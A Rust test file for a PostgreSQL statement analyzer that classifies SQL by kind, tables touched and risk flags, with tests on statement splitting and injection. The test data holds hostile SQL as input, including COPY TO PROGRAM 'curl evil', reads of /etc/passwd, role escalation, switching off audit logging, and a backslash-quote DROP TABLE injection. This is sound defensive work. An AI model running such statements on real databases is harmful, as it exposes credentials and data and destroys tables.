//! What each kind of statement is: tag, class, tables (`r:` read, `w:` written), flags.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::string_slice, reason = "test code")]

use postgres_grammar::{Access, Analysis, Analyzer, Class, Lexer, Limits};

type Row = (&'static str, &'static str, Class, &'static str, &'static str);

use Class::{Admin, Ddl, Read, Session, Unknown, Write};

const QUERIES: &[Row] = &[
    ("SELECT 1", "SELECT", Read, "", ""),
    (
        "select abalance from pgbench_accounts where aid = 4711;",
        "SELECT",
        Read,
        "r:pgbench_accounts",
        "",
    ),
    ("TABLE users", "SELECT", Read, "r:users", ""),
    ("VALUES (1, 'a'), (2, 'b')", "SELECT", Read, "", ""),
    ("SELECT (users).* FROM users", "SELECT", Read, "r:users", ""),
    ("SELECT f(VARIADIC ARRAY[1,2])", "SELECT", Write, "", "unlisted_function"),
    (
        "SELECT * FROM ROWS FROM (generate_series(1,2), f(3)) AS x",
        "SELECT",
        Write,
        "",
        "unlisted_function",
    ),
    ("SELECT * FROM ROWS FROM (generate_series(1,2), now()) AS x", "SELECT", Read, "", ""),
    ("SELECT U&\"d\\0061ta\" FROM U&\"us!0065rs\" UESCAPE '!'", "SELECT", Read, "r:users", ""),
    ("SELECT 'a'\n'b'", "SELECT", Read, "", ""),
    ("SELECT 'a' -- x\n'b' FROM t", "SELECT", Read, "r:t", ""),
    ("SELECT * FROM t FOR UPDATE", "SELECT", Read, "r:t", "locking"),
    ("SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", "SELECT", Read, "r:t", "locking"),
    ("SELECT * FROM t FOR KEY SHARE NOWAIT", "SELECT", Read, "r:t", "locking"),
    (
        "SELECT a.x FROM s.a AS a JOIN b USING (id) LEFT JOIN c ON true",
        "SELECT",
        Read,
        "r:s.a r:b r:c",
        "",
    ),
    ("SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.i = a.i) x", "SELECT", Read, "r:a r:b", ""),
    (
        "SELECT (SELECT max(x) FROM secrets) FROM t WHERE EXISTS (SELECT 1 FROM u)",
        "SELECT",
        Read,
        "r:secrets r:t r:u",
        "",
    ),
    (
        "SELECT 1 FROM t ORDER BY (SELECT 1 FROM hidden) LIMIT (SELECT 1 FROM lim)",
        "SELECT",
        Read,
        "r:t r:hidden r:lim",
        "",
    ),
    ("SELECT 1 UNION SELECT 2 FROM a EXCEPT SELECT 3 FROM b", "SELECT", Read, "r:a r:b", ""),
    ("WITH x AS (SELECT * FROM t) SELECT * FROM x", "SELECT", Read, "r:t", ""),
    ("WITH users AS (SELECT * FROM users) SELECT * FROM users", "SELECT", Read, "r:users", ""),
    (
        "WITH RECURSIVE x AS (SELECT 1 UNION ALL SELECT * FROM x) SELECT * FROM x",
        "SELECT",
        Read,
        "",
        "",
    ),
    ("WITH x AS (SELECT 1) SELECT * FROM public.x", "SELECT", Read, "r:public.x", ""),
    (
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "SELECT",
        Write,
        "w:t",
        "missing_where cte_dml",
    ),
    (
        "WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d",
        "SELECT",
        Write,
        "w:t",
        "cte_dml",
    ),
    ("WITH t AS (SELECT 1) DELETE FROM t WHERE a = 1", "DELETE", Write, "w:t", ""),
    (
        "WITH i AS (INSERT INTO a SELECT * FROM b RETURNING 1) UPDATE c SET x = 1 WHERE y = 2",
        "UPDATE",
        Write,
        "w:a r:b w:c",
        "cte_dml",
    ),
    ("SELECT * INTO copy_of FROM t", "SELECT INTO", Ddl, "w:copy_of r:t", "select_into"),
    ("SELECT nextval('s')", "SELECT", Write, "", "unlisted_function"),
    ("SELECT pg_catalog.setval('s', 1)", "SELECT", Write, "", "unlisted_function"),
    ("SELECT pg_advisory_lock(1), pg_notify('a', 'b')", "SELECT", Write, "", "unlisted_function"),
    ("SELECT 1 ### 2", "SELECT", Write, "", "unlisted_function"),
    ("SELECT 1 OPERATOR(app.+) 2", "SELECT", Write, "", "unlisted_function"),
    (
        "SELECT 1 OPERATOR(pg_catalog.+) 2, a BETWEEN 1 AND 2, a IN (1) FROM t",
        "SELECT",
        Read,
        "r:t",
        "",
    ),
    ("SELECT 1 ### ANY (SELECT a FROM t)", "SELECT", Write, "r:t", "unlisted_function"),
    ("SELECT a FROM t ORDER BY a USING ###", "SELECT", Write, "r:t", "unlisted_function"),
    ("SELECT a FROM t ORDER BY wipe(a)", "SELECT", Write, "r:t", "unlisted_function"),
    ("SELECT a FROM t GROUP BY a HAVING wipe(a)", "SELECT", Write, "r:t", "unlisted_function"),
    ("SELECT my_sum(a) OVER (PARTITION BY b) FROM t", "SELECT", Write, "r:t", "unlisted_function"),
    ("SELECT count(*) FILTER (WHERE wipe(a)) FROM t", "SELECT", Write, "r:t", "unlisted_function"),
    ("SELECT * FROM wipe()", "SELECT", Write, "", "unlisted_function"),
    ("SELECT * FROM t, LATERAL wipe(t.a)", "SELECT", Write, "r:t", "unlisted_function"),
    ("WITH w AS (SELECT wipe()) SELECT 1", "SELECT", Write, "", "unlisted_function"),
    ("VALUES (wipe())", "SELECT", Write, "", "unlisted_function"),
    ("SELECT 1 LIMIT wipe()", "SELECT", Write, "", "unlisted_function"),
    ("SELECT CASE WHEN wipe() THEN 1 END, ARRAY[wipe()]", "SELECT", Write, "", "unlisted_function"),
    ("SELECT coalesce(a, wipe()) FROM t", "SELECT", Write, "r:t", "unlisted_function"),
    ("SELECT * FROM t TABLESAMPLE bernoulli(wipe())", "SELECT", Write, "r:t", "unlisted_function"),
    (
        "SELECT * FROM t JOIN u ON wipe(t.a) WHERE EXISTS (SELECT 1)",
        "SELECT",
        Write,
        "r:t r:u",
        "unlisted_function",
    ),
    ("SELECT public.count(*) FROM t", "SELECT", Write, "r:t", "unlisted_function"),
    ("SELECT pg_temp.lower('a')", "SELECT", Write, "", "unlisted_function"),
    ("SELECT \"pg_catalog.lower\"('a')", "SELECT", Write, "", "unlisted_function"),
    ("SELECT \"LOWER\"('a')", "SELECT", Write, "", "unlisted_function"),
    ("SELECT app.set_config('search_path', '', false)", "SELECT", Write, "", "unlisted_function"),
    (
        "SELECT count(*), pg_catalog.count(*), sum(a), now(), current_user, lower(b), to_char(c, 'x'), \
         extract(year FROM c), substring(b FROM 1 FOR 2), c AT TIME ZONE 'UTC', b LIKE 'x%', \
         b SIMILAR TO 'x', random(), coalesce(a, 1), greatest(a, 2), row_number() OVER () FROM t",
        "SELECT",
        Read,
        "r:t",
        "",
    ),
    ("SELECT pg_read_file('/etc/passwd')", "SELECT", Admin, "", "dangerous_function"),
    ("SELECT pg_catalog.pg_read_binary_file('x')", "SELECT", Admin, "", "dangerous_function"),
    ("SELECT lo_import('/etc/passwd')", "SELECT", Admin, "", "dangerous_function"),
    ("SELECT lo_export(1, '/tmp/x')", "SELECT", Admin, "", "dangerous_function"),
    (
        "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
        "SELECT",
        Admin,
        "",
        "dangerous_function dynamic_sql",
    ),
    ("SELECT pg_terminate_backend(1)", "SELECT", Admin, "", "dangerous_function"),
    (
        "SELECT query_to_xml('select 1', true, true, '')",
        "SELECT",
        Admin,
        "",
        "dangerous_function dynamic_sql",
    ),
    ("SELECT table_to_xml('users', true, true, '')", "SELECT", Admin, "", "dangerous_function"),
    ("SELECT \"lo_import\"('x')", "SELECT", Admin, "", "dangerous_function"),
    ("SELECT set_config('role', 'postgres', false)", "SELECT", Admin, "", "dangerous_function"),
    (
        "SELECT set_config('ro' || 'le', 'postgres', false)",
        "SELECT",
        Admin,
        "",
        "dangerous_function",
    ),
    ("SELECT set_config('search_path', '', false)", "SELECT", Read, "", ""),
    (
        "SELECT set_config('search_path', 'a, PG_catalog ', false)",
        "SELECT",
        Admin,
        "",
        "dangerous_function",
    ),
    ("SELECT set_config('search_path', $1, false)", "SELECT", Admin, "", "dangerous_function"),
    ("SELECT set_config('work_mem', $1, false)", "SELECT", Read, "", ""),
    (
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        "SELECT",
        Admin,
        "",
        "dangerous_function",
    ),
    ("SELECT rolpassword FROM pg_authid", "SELECT", Admin, "r:pg_authid", ""),
    ("SELECT * FROM pg_catalog.pg_shadow", "SELECT", Admin, "r:pg_catalog.pg_shadow", ""),
    ("SELECT relname FROM pg_class", "SELECT", Read, "r:pg_class", ""),
    (
        "UPDATE pg_settings SET setting = 'x' WHERE name = 'role'",
        "UPDATE",
        Admin,
        "w:pg_settings",
        "",
    ),
    ("INSERT INTO t VALUES (1)", "INSERT", Write, "w:t", ""),
    (
        "INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET a = excluded.a",
        "INSERT",
        Write,
        "w:t r:u",
        "",
    ),
    ("INSERT INTO t DEFAULT VALUES RETURNING id", "INSERT", Write, "w:t", ""),
    ("UPDATE t SET a = 1", "UPDATE", Write, "w:t", "missing_where"),
    ("UPDATE t SET a = 1 WHERE true", "UPDATE", Write, "w:t", "missing_where"),
    ("UPDATE t SET a = 1 WHERE 1 = 1", "UPDATE", Write, "w:t", "missing_where"),
    ("UPDATE t SET a = 1 WHERE id = 5 OR 1 = 1", "UPDATE", Write, "w:t", "missing_where"),
    ("UPDATE t SET a = 1 WHERE id = id", "UPDATE", Write, "w:t", "missing_where"),
    ("UPDATE t SET a = 1 WHERE id = 5 AND true", "UPDATE", Write, "w:t", ""),
    ("UPDATE t SET a = u.a FROM u WHERE u.id = t.id", "UPDATE", Write, "w:t r:u", ""),
    ("DELETE FROM t", "DELETE", Write, "w:t", "missing_where"),
    ("/* */ DELETE FROM ONLY s.t WHERE id = 1", "DELETE", Write, "w:s.t", ""),
    ("DELETE FROM t WHERE CURRENT OF c", "DELETE", Write, "w:t", ""),
    ("DELETE FROM t USING u WHERE t.a = u.a", "DELETE", Write, "w:t r:u", ""),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)",
        "MERGE",
        Write,
        "w:t r:s",
        "",
    ),
    ("EXPLAIN SELECT * FROM t", "EXPLAIN", Read, "r:t", ""),
    ("EXPLAIN SELECT wipe()", "EXPLAIN", Write, "", "unlisted_function"),
    ("EXPLAIN DELETE FROM t", "EXPLAIN", Write, "w:t", "missing_where"),
    ("EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN", Write, "w:t", "missing_where explain_analyze"),
    ("EXPLAIN (ANALYZE, BUFFERS) SELECT 1 FROM t", "EXPLAIN", Read, "r:t", "explain_analyze"),
    ("EXPLAIN (ANALYZE off) UPDATE t SET a = 1 WHERE b = 1", "EXPLAIN", Write, "w:t", ""),
    ("EXPLAIN (ANALYZE) EXECUTE p", "EXPLAIN", Unknown, "", "explain_analyze"),
    ("SELECT xmlelement(name a, (SELECT secret FROM vault))", "SELECT", Read, "r:vault", ""),
    (
        "SELECT * FROM JSON_TABLE((SELECT j FROM docs), '$' COLUMNS (a int)) x",
        "SELECT",
        Read,
        "r:docs",
        "",
    ),
    (
        "SELECT count(*) FILTER (WHERE a IN (SELECT b FROM f)) OVER w FROM t WINDOW w AS (PARTITION BY (SELECT 1 FROM p))",
        "SELECT",
        Read,
        "r:f r:t r:p",
        "",
    ),
    ("SELECT * FROM t TABLESAMPLE bernoulli((SELECT 1 FROM n))", "SELECT", Read, "r:t r:n", ""),
];

const COPIES: &[Row] = &[
    ("COPY t TO STDOUT", "COPY", Read, "r:t", ""),
    ("COPY t (a, b) FROM STDIN WITH (FORMAT csv)", "COPY", Write, "w:t", ""),
    ("COPY (SELECT * FROM t) TO STDOUT", "COPY", Read, "r:t", ""),
    ("COPY (SELECT wipe()) TO STDOUT", "COPY", Write, "", "unlisted_function"),
    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", "COPY", Write, "w:t", "missing_where"),
    ("COPY t TO '/tmp/x'", "COPY", Admin, "r:t", "server_file"),
    ("COPY t FROM '/etc/passwd'", "COPY", Admin, "w:t", "server_file"),
    ("COPY t TO PROGRAM 'curl evil'", "COPY", Admin, "r:t", "server_file"),
    ("COPY t FROM PROGRAM 'id'", "COPY", Admin, "w:t", "server_file"),
    ("COPY BINARY t TO STDOUT", "COPY", Read, "r:t", ""),
    ("COPY t TO STDOUT CSV HEADER DELIMITER ';'", "COPY", Read, "r:t", ""),
    ("COPY t FROM STDIN WHERE a > (SELECT max(b) FROM u)", "COPY", Write, "w:t r:u", ""),
];

const SESSION: &[Row] = &[
    ("BEGIN", "BEGIN", Session, "", ""),
    ("BEGIN ISOLATION LEVEL SERIALIZABLE", "BEGIN", Session, "", ""),
    ("START TRANSACTION READ ONLY", "START TRANSACTION", Session, "", ""),
    ("COMMIT", "COMMIT", Session, "", ""),
    ("END", "COMMIT", Session, "", ""),
    ("ROLLBACK", "ROLLBACK", Session, "", ""),
    ("ABORT", "ROLLBACK", Session, "", ""),
    ("SAVEPOINT a", "SAVEPOINT", Session, "", ""),
    ("RELEASE SAVEPOINT a", "RELEASE", Session, "", ""),
    ("ROLLBACK TO a", "ROLLBACK", Session, "", ""),
    ("PREPARE TRANSACTION 'x'", "PREPARE TRANSACTION", Session, "", ""),
    ("COMMIT PREPARED 'x'", "COMMIT PREPARED", Session, "", ""),
    ("ROLLBACK PREPARED 'x'", "ROLLBACK PREPARED", Session, "", ""),
    ("SET search_path = a, b", "SET", Session, "", ""),
    ("SET search_path = pg_catalog, a", "SET", Session, "", ""),
    ("SET search_path = a, pg_catalog", "SET", Admin, "", ""),
    ("SET LOCAL search_path TO 'a', \"pg_catalog\"", "SET", Admin, "", ""),
    ("SET SCHEMA 'a'", "SET", Session, "", ""),
    ("RESET search_path", "RESET", Session, "", ""),
    ("SET search_path TO DEFAULT", "SET", Session, "", ""),
    ("SET LOCAL statement_timeout = 5000", "SET", Session, "", ""),
    ("SET TIME ZONE 'UTC'", "SET", Session, "", ""),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "SET", Session, "", ""),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", "SET", Session, "", ""),
    ("SET CONSTRAINTS ALL DEFERRED", "SET CONSTRAINTS", Session, "", ""),
    ("RESET ALL", "RESET", Session, "", ""),
    ("RESET ROLE", "RESET", Session, "", ""),
    ("SET ROLE NONE", "SET", Session, "", ""),
    ("SET ROLE admin", "SET", Admin, "", ""),
    ("SET LOCAL ROLE 'admin'", "SET", Admin, "", ""),
    ("SET SESSION AUTHORIZATION bob", "SET", Admin, "", ""),
    ("SET SESSION AUTHORIZATION DEFAULT", "SET", Session, "", ""),
    ("SET role TO x", "SET", Admin, "", ""),
    ("SET session_replication_role = replica", "SET", Admin, "", ""),
    ("SET \"Session_Replication_Role\" = replica", "SET", Admin, "", ""),
    ("SET row_security = off", "SET", Admin, "", ""),
    ("SET pgaudit.log = 'none'", "SET", Admin, "", ""),
    ("SET standard_conforming_strings = off", "SET", Admin, "", ""),
    ("SET standard_conforming_strings = on", "SET", Session, "", ""),
    ("SET client_encoding = 'SJIS'", "SET", Admin, "", ""),
    ("SET NAMES 'GBK'", "SET", Admin, "", ""),
    ("SET client_encoding TO 'UTF8'", "SET", Session, "", ""),
    ("SHOW all", "SHOW", Session, "", ""),
    ("PREPARE p AS SELECT * FROM t WHERE a = $1", "PREPARE", Read, "r:t", ""),
    ("PREPARE p (int) AS DELETE FROM t", "PREPARE", Write, "w:t", "missing_where"),
    ("EXECUTE p(1)", "EXECUTE", Unknown, "", ""),
    ("DEALLOCATE p", "DEALLOCATE", Session, "", ""),
    ("DEALLOCATE ALL", "DEALLOCATE ALL", Session, "", ""),
    ("DISCARD ALL", "DISCARD ALL", Session, "", ""),
    ("DISCARD PLANS", "DISCARD PLANS", Session, "", ""),
    ("DECLARE c BINARY CURSOR FOR SELECT * FROM t", "DECLARE CURSOR", Read, "r:t", ""),
    ("DECLARE c CURSOR FOR SELECT wipe()", "DECLARE CURSOR", Write, "", "unlisted_function"),
    ("PREPARE p AS SELECT wipe($1)", "PREPARE", Write, "", "unlisted_function"),
    ("EXECUTE p(wipe())", "EXECUTE", Unknown, "", "unlisted_function"),
    ("FETCH 5 FROM c", "FETCH", Session, "", ""),
    ("MOVE ALL IN c", "MOVE", Session, "", ""),
    ("CLOSE c", "CLOSE CURSOR", Session, "", ""),
    ("CLOSE ALL", "CLOSE CURSOR ALL", Session, "", ""),
    ("LISTEN x", "LISTEN", Session, "", ""),
    ("UNLISTEN *", "UNLISTEN", Session, "", ""),
    ("NOTIFY x, 'y'", "NOTIFY", Session, "", ""),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "LOCK TABLE", Read, "r:t", ""),
];

const SCHEMA: &[Row] = &[
    ("CREATE TABLE s.t (a int REFERENCES u)", "CREATE TABLE", Ddl, "w:s.t r:u", ""),
    ("CREATE TABLE t (LIKE u)", "CREATE TABLE", Ddl, "w:t r:u", ""),
    ("CREATE TEMP TABLE t PARTITION OF p DEFAULT", "CREATE TABLE", Ddl, "w:t r:p", ""),
    ("CREATE TABLE t AS SELECT * FROM u", "CREATE TABLE AS", Ddl, "w:t r:u", "select_into"),
    ("CREATE TABLE t AS EXECUTE p", "CREATE TABLE AS", Unknown, "w:t", "select_into"),
    (
        "CREATE MATERIALIZED VIEW v AS SELECT * FROM u",
        "CREATE MATERIALIZED VIEW",
        Ddl,
        "w:v r:u",
        "select_into",
    ),
    ("REFRESH MATERIALIZED VIEW v", "REFRESH MATERIALIZED VIEW", Ddl, "w:v", ""),
    ("CREATE VIEW v AS SELECT * FROM u", "CREATE VIEW", Ddl, "w:v r:u", ""),
    ("ALTER TABLE t ADD COLUMN a int", "ALTER TABLE", Ddl, "w:t", ""),
    ("ALTER TABLE t OWNER TO bob", "ALTER TABLE", Admin, "w:t", ""),
    ("ALTER TABLE t DISABLE ROW LEVEL SECURITY", "ALTER TABLE", Admin, "w:t", ""),
    ("ALTER TABLE t DISABLE TRIGGER ALL", "ALTER TABLE", Admin, "w:t", ""),
    ("ALTER TABLE t RENAME TO u", "ALTER TABLE", Ddl, "w:t", ""),
    ("ALTER TABLE t RENAME COLUMN a TO b", "ALTER TABLE", Ddl, "w:t", ""),
    ("ALTER TABLE t SET SCHEMA s", "ALTER TABLE", Ddl, "w:t", ""),
    ("ALTER VIEW v RENAME TO w", "ALTER VIEW", Ddl, "w:v", ""),
    ("DROP TABLE IF EXISTS a, s.b CASCADE", "DROP TABLE", Ddl, "w:a w:s.b", ""),
    ("DROP VIEW v", "DROP VIEW", Ddl, "w:v", ""),
    ("DROP TRIGGER x ON s.t", "DROP TRIGGER", Ddl, "w:s.t", ""),
    ("DROP POLICY p ON t", "DROP POLICY", Admin, "w:t", ""),
    ("DROP FUNCTION f(int)", "DROP FUNCTION", Ddl, "", ""),
    ("DROP SCHEMA s CASCADE", "DROP SCHEMA", Ddl, "", ""),
    ("TRUNCATE t, s.u", "TRUNCATE TABLE", Ddl, "w:t w:s.u", ""),
    ("CREATE UNIQUE INDEX CONCURRENTLY i ON t (a)", "CREATE INDEX", Ddl, "w:t", ""),
    ("CREATE SEQUENCE s", "CREATE SEQUENCE", Ddl, "w:s", ""),
    ("CREATE SCHEMA s CREATE TABLE t (a int)", "CREATE SCHEMA", Ddl, "w:t", ""),
    ("CREATE TYPE t AS ENUM ('a')", "CREATE TYPE", Ddl, "", ""),
    ("CREATE DOMAIN d AS int CHECK (value > 0)", "CREATE DOMAIN", Ddl, "", ""),
    ("ALTER DOMAIN d SET NOT NULL", "ALTER DOMAIN", Ddl, "", ""),
    ("CREATE STATISTICS s ON a, b FROM t", "CREATE STATISTICS", Ddl, "w:t", ""),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1; SELECT 2'",
        "CREATE FUNCTION",
        Ddl,
        "",
        "",
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END",
        "CREATE FUNCTION",
        Ddl,
        "w:t",
        "missing_where",
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'x'",
        "CREATE FUNCTION",
        Admin,
        "",
        "",
    ),
    (
        "CREATE FUNCTION f() RETURNS int AS 'lib', 'sym' LANGUAGE c",
        "CREATE FUNCTION",
        Admin,
        "",
        "",
    ),
    (
        "CREATE RULE r AS ON SELECT TO t DO ALSO DELETE FROM u",
        "CREATE RULE",
        Ddl,
        "w:t w:u",
        "missing_where",
    ),
    (
        "CREATE TRIGGER x BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
        "CREATE TRIGGER",
        Ddl,
        "w:t",
        "",
    ),
    ("COMMENT ON TABLE t IS 'x'", "COMMENT", Ddl, "w:t", ""),
    ("COMMENT ON COLUMN s.t.a IS 'x'", "COMMENT", Ddl, "w:s.t", ""),
    ("REINDEX TABLE t", "REINDEX", Ddl, "w:t", ""),
    ("CLUSTER t USING i", "CLUSTER", Ddl, "w:t", ""),
    ("VACUUM (FULL) t", "VACUUM", Ddl, "w:t", ""),
    ("ANALYZE t", "ANALYZE", Ddl, "w:t", ""),
    ("CREATE AGGREGATE a (int) (SFUNC = f, STYPE = int)", "CREATE AGGREGATE", Ddl, "", ""),
];

const ADMIN: &[Row] = &[
    ("DO $$ BEGIN DELETE FROM t; END $$", "DO", Admin, "w:t", "missing_where"),
    ("DO LANGUAGE plpgsql 'BEGIN PERFORM 1 FROM u; END'", "DO", Admin, "r:u", ""),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", "DO", Admin, "", "dynamic_sql"),
    ("DO LANGUAGE plpython3u 'import os'", "DO", Admin, "", "dynamic_sql"),
    ("CALL p(1)", "CALL", Admin, "", "unlisted_function"),
    ("LOAD 'x.so'", "LOAD", Admin, "", ""),
    ("CHECKPOINT", "CHECKPOINT", Admin, "", ""),
    ("ALTER SYSTEM SET log_statement = 'none'", "ALTER SYSTEM", Admin, "", ""),
    ("CREATE ROLE r SUPERUSER", "CREATE ROLE", Admin, "", ""),
    ("CREATE USER u PASSWORD 'x'", "CREATE USER", Admin, "", ""),
    ("ALTER ROLE r SET role = 'x'", "ALTER ROLE", Admin, "", ""),
    ("ALTER USER u PASSWORD 'x'", "ALTER ROLE", Admin, "", ""),
    ("DROP ROLE r", "DROP ROLE", Admin, "", ""),
    ("GRANT SELECT ON t TO bob", "GRANT", Admin, "w:t", ""),
    ("REVOKE ALL ON t FROM bob", "REVOKE", Admin, "w:t", ""),
    ("GRANT admin TO bob", "GRANT ROLE", Admin, "", ""),
    (
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
        "ALTER DEFAULT PRIVILEGES",
        Admin,
        "",
        "",
    ),
    ("REASSIGN OWNED BY a TO b", "REASSIGN OWNED", Admin, "", ""),
    ("DROP OWNED BY a", "DROP OWNED", Admin, "", ""),
    ("CREATE POLICY p ON t USING (a IN (SELECT b FROM u))", "CREATE POLICY", Admin, "w:t r:u", ""),
    ("CREATE DATABASE d", "CREATE DATABASE", Admin, "", ""),
    ("DROP DATABASE d", "DROP DATABASE", Admin, "", ""),
    ("ALTER DATABASE d SET role = x", "ALTER DATABASE", Admin, "", ""),
    ("CREATE TABLESPACE s LOCATION '/x'", "CREATE TABLESPACE", Admin, "", ""),
    ("CREATE EXTENSION dblink", "CREATE EXTENSION", Admin, "", ""),
    ("CREATE LANGUAGE plperl", "CREATE EXTENSION", Admin, "", ""),
    ("CREATE SERVER s FOREIGN DATA WRAPPER w", "CREATE SERVER", Admin, "", ""),
    ("CREATE USER MAPPING FOR u SERVER s", "CREATE USER MAPPING", Admin, "", ""),
    ("CREATE FOREIGN TABLE t (a int) SERVER s", "CREATE FOREIGN TABLE", Admin, "w:t", ""),
    ("IMPORT FOREIGN SCHEMA a FROM SERVER s INTO b", "IMPORT FOREIGN SCHEMA", Admin, "", ""),
    ("CREATE PUBLICATION p FOR TABLE t", "CREATE PUBLICATION", Admin, "w:t", ""),
    (
        "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p",
        "CREATE SUBSCRIPTION",
        Admin,
        "",
        "",
    ),
    ("DROP SUBSCRIPTION s", "DROP SUBSCRIPTION", Admin, "", ""),
    (
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
        "CREATE EVENT TRIGGER",
        Admin,
        "",
        "",
    ),
    ("SECURITY LABEL ON TABLE t IS 'x'", "SECURITY LABEL", Admin, "w:t", ""),
    ("CREATE CAST (a AS b) WITHOUT FUNCTION", "CREATE CAST", Admin, "", ""),
];

fn analyze(sql: &str) -> std::sync::Arc<Analysis> {
    Analyzer::new(Limits::default()).analyze(sql.as_bytes(), Lexer::default())
}

fn tables(analysis: &Analysis) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for table in &analysis.statements[0].tables {
        let access = if table.access == Access::Write { "w" } else { "r" };
        let schema = table.schema.as_ref().map(|it| format!("{it}.")).unwrap_or_default();
        out.push(format!("{access}:{schema}{}", table.name));
    }
    out.sort();
    out
}

#[test]
fn each_statement_is_what_it_is() {
    let all = [QUERIES, COPIES, SESSION, SCHEMA, ADMIN].concat();
    assert!(all.len() >= 150, "{}", all.len());
    let mut wrong = Vec::new();
    for (sql, tag, class, named, flags) in all {
        let analysis = analyze(sql);
        let Some(statement) = analysis.statements.first() else {
            wrong.push(format!("{sql}: {:?}", analysis.parse_error));
            continue;
        };
        let mut want: Vec<&str> = named.split_whitespace().collect();
        want.sort_unstable();
        let mut have_flags: Vec<&str> = statement.flags.names().collect();
        let mut want_flags: Vec<&str> = flags.split_whitespace().collect();
        have_flags.sort_unstable();
        want_flags.sort_unstable();
        let same = (statement.tag, statement.class, analysis.class) == (tag, class, class)
            && tables(&analysis) == want
            && have_flags == want_flags
            && analysis.statements.len() == 1;
        if !same {
            let have = (statement.tag, statement.class, tables(&analysis), have_flags);
            wrong.push(format!("{sql}: {have:?}"));
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn attack_09_statements_split_where_the_server_splits() {
    for (sql, want) in [
        ("SELECT 1; DELETE FROM t", &["SELECT 1", "DELETE FROM t"][..]),
        ("SELECT ';'; SELECT 2", &["SELECT ';'", "SELECT 2"]),
        ("SELECT $$;$$; SELECT $a$;$$;$a$", &["SELECT $$;$$", "SELECT $a$;$$;$a$"]),
        ("SELECT 1 -- ; DROP\n; SELECT 2", &["SELECT 1", "SELECT 2"]),
        ("SELECT 1 -- x\r; SELECT 2", &["SELECT 1", "SELECT 2"]),
        ("SELECT /* ; /* ; */ ; */ 1; SELECT 2", &["SELECT /* ; /* ; */ ; */ 1", "SELECT 2"]),
        ("SELECT \";\"; SELECT 2", &["SELECT \";\"", "SELECT 2"]),
        ("SELECT E'\\';'; SELECT 2", &["SELECT E'\\';'", "SELECT 2"]),
        ("SELECT '\\'; DROP TABLE t; --'", &["SELECT '\\'", "DROP TABLE t"]),
        ("SELECT U&'\\0027;' ; SELECT 2", &["SELECT U&'\\0027;'", "SELECT 2"]),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END; SELECT 3",
            &[
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END",
                "SELECT 3",
            ],
        ),
        (";;SELECT 1;; /* c */ SELECT 2 /* d */;", &["SELECT 1", "SELECT 2"]),
        ("SELECT 'é;'; SELECT 'ü'", &["SELECT 'é;'", "SELECT 'ü'"]),
    ] {
        let analysis = analyze(sql);
        let have: Vec<&str> = analysis.statements.iter().map(|it| &sql[it.range.clone()]).collect();
        assert_eq!(have, want, "{sql} {:?}", analysis.parse_error);
        assert!(analysis.statements.iter().all(|it| it.flags.multi), "{sql}");
    }
}

#[test]
fn attack_09_a_backslash_is_read_as_the_session_reads_it() {
    let analyzer = Analyzer::new(Limits::default());
    // On: the string is `\`, and a DROP follows. Off: all of it is one string.
    let sql = br"SELECT '\'; DROP TABLE t; --'";
    let off = Lexer { standard_conforming_strings: false };
    assert_eq!(analyzer.analyze(sql, Lexer::default()).class, Class::Ddl);
    let analysis = analyzer.analyze(sql, off);
    assert_eq!((analysis.class, analysis.statements.len()), (Class::Read, 1));
    assert_eq!(analysis.literals, None, "not told in that mode");
    assert_eq!(analyzer.analyze(b"SELECT 1", off).literals.as_ref().map(Vec::len), Some(1));
    assert_eq!(analyzer.analyze(sql, Lexer::default()).class, Class::Ddl, "kept apart");
}

#[test]
fn attack_09_what_only_another_parser_accepts_is_unknown() {
    for sql in ["USE x", "SELECT TOP 5 * FROM t", "SELECT # FROM t", "INSERT OVERWRITE t SELECT 1"]
    {
        assert_eq!(analyze(sql).class, Class::Unknown, "{sql}");
    }
}
